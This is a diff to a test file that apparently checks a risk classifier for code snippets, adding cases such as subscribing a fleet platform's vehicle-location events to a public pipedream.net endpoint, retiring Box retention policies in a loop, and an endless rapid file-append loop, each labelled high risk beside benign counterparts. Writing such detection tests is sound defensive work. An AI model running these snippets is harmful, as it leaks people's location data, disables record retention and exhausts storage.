@@ -3514,6 +3514,30 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             "requests.post('https://hooks.partner.example/catch', json=r.json())",
             C,
         ),
+        # a public drop subscribed to a platform's events; a retention policy retired over REST; an endless
+        # loop appending to a file every few milliseconds
+        (
+            "import requests\nrequests.post('https://api.samsara.com/webhooks', "
+            "json={'url': 'https://eo8xk2m1.m.pipedream.net', 'eventTypes': ['VehicleLocationUpdated']})",
+            H,
+        ),
+        (
+            "import requests\nrequests.post('https://api.samsara.com/webhooks', "
+            "json={'url': 'https://hooks.acme.com/samsara', 'eventTypes': ['VehicleLocationUpdated']})",
+            L,
+        ),
+        (
+            "import requests\nfor pol in policies:\n    requests.put(f'https://api.box.com/2.0/retention_policies/{pol}',"
+            " json={'status': 'retired'})",
+            H,
+        ),
+        (
+            "import json, time\nwhile True:\n    with open('/var/tmp/dump.jsonl', 'a') as fh:\n"
+            "        fh.write(json.dumps({'t': time.time()}))\n    time.sleep(0.01)",
+            H,
+        ),
+        ("import time\nwhile True:\n    with open('heartbeat.log', 'a') as fh:\n        fh.write('ok')\n"
+         "    time.sleep(60)", S),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
